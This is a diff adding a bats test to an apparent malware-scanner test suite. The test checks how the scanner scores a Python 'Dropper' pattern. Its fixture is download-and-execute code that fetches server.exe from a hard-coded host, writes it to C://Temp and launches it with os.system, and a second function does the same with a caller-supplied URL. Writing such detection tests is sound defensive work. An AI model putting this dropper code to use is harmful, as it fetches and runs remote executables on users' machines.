@@ -178,3 +178,24 @@ PY
 	run flows m.py
 	assert_output "6 Dropper function 40 requests.get() (line 3) | r → file C://Temp//server.exe | os.system"
 }
+
+@test "Dropper: a download from a hard-coded host run in an uncalled function weighs like fixed_host; a caller's URL does not" {
+	py m.py <<'PY'
+import os, requests
+def fetch():
+    url = "https://files.dropzone.net/a/server.exe"
+    r = requests.get(url)
+    with open("C://Temp//server.exe", "wb") as f:
+        f.write(r.content)
+    os.system("start C://Temp//server.exe")
+def fetch_from(url):
+    r = requests.get(url)
+    with open("C://Temp//client.exe", "wb") as f:
+        f.write(r.content)
+    os.system("start C://Temp//client.exe")
+PY
+	drop() { scan m.py | jq -r 'select(.type == "hit" and .detection == "Dropper") | "\(.line) \(.score) \(.flow.host) \(.tags | index("fixed-host") != null) \(.message | test("from the hard-coded host files.dropzone.net"))"'; }
+	run -0 drop
+	assert_output "7 100 files.dropzone.net true true
+12 40 null false false"
+}
